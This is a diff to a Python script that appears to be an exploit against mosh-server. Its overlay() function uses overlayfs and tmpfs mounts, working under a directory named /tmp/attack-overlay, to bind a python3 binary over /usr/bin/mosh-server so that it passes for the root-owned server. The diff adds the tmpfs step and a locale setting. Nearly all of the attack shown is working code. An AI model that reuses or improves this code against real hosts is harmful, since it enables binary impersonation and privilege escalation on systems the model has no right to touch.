@@ -301,9 +301,7 @@ def output(kind):
 def overlay(address, port):
     """Python as a file that seems to be /usr/bin/mosh-server, root's, unlinked; run in the host's own namespaces."""
     work = "/tmp/attack-overlay"
-    subprocess.run(["rm", "-rf", work])
-    for part in ("upper", "work", "merged"):
-        os.makedirs(f"{work}/{part}")
+    os.makedirs(work, exist_ok=True)
     python = os.path.realpath("/usr/bin/python3")
     ours, theirs = socket.socketpair()
     if os.fork() == 0:
@@ -315,6 +313,9 @@ def overlay(address, port):
                 target.write(text)
         merged = f"{work}/merged/{os.path.basename(python)}"
         options = f"lowerdir={os.path.dirname(python)},upperdir={work}/upper,workdir={work}/work,userxattr"
+        # A tmpfs of his own: a machine whose disk is an overlay has no other place for the upper folder.
+        if os.system(f"mount -t tmpfs tmpfs {work} && mkdir {work}/upper {work}/work {work}/merged"):
+            os._exit(4)
         if os.system(f"mount -t overlay overlay -o {options} {work}/merged && mount --bind {merged} /usr/bin/mosh-server"):
             os._exit(3)
         held = os.open("/usr/bin/mosh-server", os.O_RDONLY)
@@ -427,6 +428,7 @@ def knock(address, port, seconds):
 def announce(address, port):
     """A stock server: its pid, and when it was announced."""
     line = ["mosh-server", "new", "-i", address, "-p", port, "--", "sleep", "600"]
+    os.environ["LC_ALL"] = "C.UTF-8"
     said = subprocess.run(line, stdin=subprocess.DEVNULL, capture_output=True, text=True)
     print(time.monotonic(), re.search(r"pid = (\d+)", said.stdout + said.stderr)[1])
 
